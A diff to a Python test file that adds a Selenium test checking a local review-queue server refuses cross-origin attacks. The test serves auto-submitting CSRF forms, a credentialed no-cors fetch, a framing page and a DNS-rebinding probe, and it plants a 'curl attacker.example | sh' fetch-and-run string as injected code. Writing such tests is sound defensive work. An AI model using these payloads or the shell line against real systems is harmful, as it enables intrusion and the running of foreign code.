@@ -15,9 +15,11 @@ import socket
 import sqlite3
 import subprocess
 import sys
+import threading
 import time
 import urllib.error
 import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -93,7 +95,7 @@ def _pending_reviews(archive: Path) -> list[int]:
         return []
 
 
-def _chrome() -> "webdriver.Chrome":
+def _chrome(*extra: str) -> "webdriver.Chrome":
     options = webdriver.ChromeOptions()
     options.binary_location = str(CHROMIUM)
     for arg in (
@@ -103,6 +105,7 @@ def _chrome() -> "webdriver.Chrome":
         "--disable-gpu",
         "--window-size=1280,1000",
         "--hide-scrollbars",
+        *extra,
     ):
         options.add_argument(arg)
     # The driver path is given, so Selenium Manager never tries to download one (SE_OFFLINE makes sure).
@@ -501,3 +504,143 @@ def test_a_person_decides_a_paused_run_in_a_real_browser(tmp_path, cache_dir, mo
     for path in written:
         data = path.read_bytes()
         assert len(data) > 1000 and data.startswith(PNG_MAGIC), f"{path} is not a PNG screenshot"
+
+
+ATTACKER_CODE = "import os\nos.system('curl attacker.example | sh')\n"
+
+
+def _attack_pages(base: str, review_id: int, candidate_id: int) -> dict[str, str]:
+    """What a page on another origin does to a person who has the review queue open: submit a form to decide the
+    review (or flag a candidate) the moment it loads, POST with fetch (the answer is unreadable to it, but the write
+    is what it wants), or frame the queue to click through it."""
+    decide = f"""<form id="f" method="post" action="{base}/reviews/{review_id}">
+      <input name="decision" value="edited"><input name="by" value="attacker">
+      <textarea name="code">{ATTACKER_CODE}</textarea></form>"""
+    flag = f"""<form id="f" method="post" action="{base}/candidate/{candidate_id}/flag">
+      <input name="by" value="attacker"><input name="reason" value="flagged by another site"></form>"""
+    submit = "<script>document.getElementById('f').submit()</script>"
+    fetch = f"""<script>
+      fetch("{base}/reviews/{review_id}", {{method: "POST", mode: "no-cors", credentials: "include",
+        headers: {{"Content-Type": "application/x-www-form-urlencoded"}}, body: "decision=approved&by=attacker"}})
+        .finally(() => {{ document.title = "sent"; }});
+    </script>"""
+    return {
+        "/decide.html": f"<!doctype html><title>cats</title>{decide}{submit}",
+        "/flag.html": f"<!doctype html><title>cats</title>{flag}{submit}",
+        "/fetch.html": f"<!doctype html><title>cats</title>{fetch}",
+        "/frame.html": f'<!doctype html><title>framed</title><iframe id="queue" src="{base}/reviews"></iframe>',
+    }
+
+
+def _attacker_server(pages: dict[str, str]):
+    """A second HTTP server on another port of this machine, serving `pages`: the other origin."""
+
+    class Pages(BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802 - http.server's name
+            body = pages.get(self.path.split("?")[0], "").encode()
+            self.send_response(200 if body else 404)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Pages)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+@requires_browser
+def test_a_page_on_another_origin_cannot_decide_or_flag_while_the_person_can(tmp_path, monkeypatch):
+    """Issue 23's first finding, replayed in Chromium: with the review queue open in the same browser, pages served
+    from another origin (another port of 127.0.0.1, and a foreign name) submit forms and fetches at the queue; none is
+    recorded, the browser lands on the server's 403, and the person's own clicks still decide and flag. A page whose
+    name is re-pointed at 127.0.0.1 (DNS rebinding, played by Chromium's resolver rules) is refused by its Host."""
+    monkeypatch.setenv("SE_OFFLINE", "true")
+    shots = SCREENSHOTS / "cross-origin"
+    shots.mkdir(parents=True, exist_ok=True)
+    archive = tmp_path / "a.db"
+    with Archive(archive) as db:
+        run_id = db.start_run("run", "digits", "openai/gpt-4o-mini", {})
+        seed = db.record(
+            {"task": "digits", "name": "seed.py", "proposer": "user", "code": "x = 1\n", "status": "trained",
+             "text_hash": "s", "parents": []},
+            {"status": "trained", "fidelity": 1, "seed": 0, "val_accuracy": 0.8, "test_accuracy": 0.8},
+        )  # fmt: skip
+        review_id = db.request_review(
+            {"run_id": run_id, "proposal_key": f"{run_id}/0/0", "code": "class Net:\n    pass\n", "intent": "wider"}
+        )
+
+    def recorded() -> tuple[str, list[dict]]:
+        with Archive(archive) as db:
+            flags = [r for r in db.reviews() if r["kind"] == "flag"]
+            return db.review(review_id)["status"], flags
+
+    env = {**os.environ}
+    env.pop("AGENTARCH_WEB_TOKEN", None)
+    port = _free_port()
+    base = f"http://127.0.0.1:{port}"
+    attacker = _attacker_server(_attack_pages(base, review_id, seed))
+    other_port = attacker.server_address[1]
+    server = driver = None
+    log_path = tmp_path / "serve.log"
+    try:
+        with open(log_path, "w") as log:
+            server = subprocess.Popen(
+                [sys.executable, "-m", "agentarch.cli", "serve", "--archive", str(archive), "--port", str(port)],
+                cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT, text=True,
+            )  # fmt: skip
+        _wait_until_served(base + "/", server, log_path)
+        driver = _chrome("--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1")
+        driver.get(base + "/reviews")  # the person has the queue open: its cookies are in this browser
+        _check_page(driver, "Reviews")
+
+        for origin in (f"http://127.0.0.1:{other_port}", f"http://attacker.test:{other_port}"):
+            for page in ("/decide.html", "/flag.html"):
+                driver.get(origin + page)
+                WebDriverWait(driver, 20).until(lambda d: d.current_url.startswith(base))  # the form went
+                text = driver.find_element(By.TAG_NAME, "body").text
+                assert text.startswith("403:") and "own pages" in text, (origin, page, text)
+            driver.get(origin + "/fetch.html")
+            WebDriverWait(driver, 20).until(lambda d: d.title == "sent")
+        status, flags = recorded()
+        assert status == "pending" and flags == [], (status, flags, log_path.read_text()[-2000:])
+        assert "403" in log_path.read_text()  # the server saw the attempts and refused them
+
+        # framed by another site, the queue does not load (no clicking through an overlay)
+        driver.get(f"http://attacker.test:{other_port}/frame.html")
+        driver.switch_to.frame(driver.find_element(By.ID, "queue"))
+        assert "Review queue" not in driver.page_source
+        driver.switch_to.default_content()
+
+        # DNS rebinding: a page of rebind.test, its name now answered by 127.0.0.1, asks this server for the queue
+        driver.get(f"http://rebind.test:{port}/reviews")
+        text = driver.find_element(By.TAG_NAME, "body").text
+        assert text.startswith("400:") and "does not answer to the host" in text, text
+        assert "wider" not in driver.page_source
+        driver.save_screenshot(str(shots / "01-rebinding-refused.png"))
+
+        # the person's own clicks on the real pages still work
+        driver.get(base + "/reviews")
+        _check_page(driver, "Reviews")
+        _decide(driver, review_id, "approved")
+        driver.save_screenshot(str(shots / "02-own-decision.png"))
+        driver.get(f"{base}/candidate/{seed}")
+        form = driver.find_element(By.CSS_SELECTOR, f"form[action='/candidate/{seed}/flag']")
+        form.find_element(By.NAME, "reason").send_keys("the person's own flag")
+        form.find_element(By.TAG_NAME, "button").click()
+        WebDriverWait(driver, 20).until(lambda d: d.current_url.endswith(f"/candidate/{seed}#reviews"))
+        _check_page(driver, f"#{seed} ")
+        status, flags = recorded()
+        assert status == "approved" and [f["reason"] for f in flags] == ["the person's own flag"]
+        with Archive(archive) as db:
+            assert db.review(review_id)["decided_by"] == REVIEWER and not db.review(review_id).get("decision_code")
+    finally:
+        if driver is not None:
+            driver.quit()
+        attacker.shutdown()
+        if server is not None and server.poll() is None:
+            server.kill()
+            server.wait(timeout=30)
